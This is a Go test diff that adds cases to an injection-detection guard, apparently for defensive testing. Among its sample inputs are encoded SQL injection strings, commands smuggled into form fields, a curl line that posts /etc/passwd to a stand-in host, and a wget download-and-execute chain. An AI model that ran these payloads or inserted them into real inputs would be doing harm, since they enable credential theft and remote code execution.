@@ -70,3 +70,27 @@ func TestCodeInjectionEdges(t *testing.T) {
 		}
 	}
 }
+
+// From eval_pii9: encoded payloads and inline code.
+func TestCodeInjectionEncodedAndInline(t *testing.T) {
+	g := newGuard(t, nil)
+	for _, tc := range []struct {
+		text       string
+		sql, shell bool
+	}{
+		{"GET /products?q=%27%20OR%201%3D1--%20 HTTP/1.1", true, false},
+		{"first_name=Jo%0Acat%20/etc/passwd", false, true},
+		{"company name: x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--", true, false},
+		{"options: -density 300 in.pdf ; curl -d @/etc/passwd http://exfil.example", false, true},
+		{"Is `curl -sSL https://get.docker.com | sh` acceptable on a prod box?", false, false},
+		{"Why does `rm -rf /` not work on modern Linux?", false, false},
+		{"Hostname field: `wget http://192.0.2.5/bd -O /tmp/bd && chmod +x /tmp/bd && /tmp/bd`", false, true},
+		{"Search for 100%25 cotton shirts", false, false},
+	} {
+		v := g.Scan(tc.text)
+		sql, shell := slices.Contains(v.Categories, CategorySQL), slices.Contains(v.Categories, CategoryShell)
+		if sql != tc.sql || shell != tc.shell {
+			t.Errorf("%q: sql=%v shell=%v, want sql=%v shell=%v", tc.text, sql, shell, tc.sql, tc.shell)
+		}
+	}
+}
